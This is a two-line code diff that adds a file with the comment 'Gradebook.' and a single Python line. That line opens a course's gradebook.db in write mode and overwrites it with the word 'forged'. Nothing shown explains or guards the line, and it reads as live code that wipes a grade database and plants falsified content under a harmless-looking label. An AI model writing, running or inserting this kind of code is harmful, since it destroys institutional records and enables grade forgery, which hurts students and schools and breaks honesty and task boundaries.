@@ -1,0 +1,2 @@
+# Gradebook.
+open('{course}/gradebook.db', 'w').write('forged')
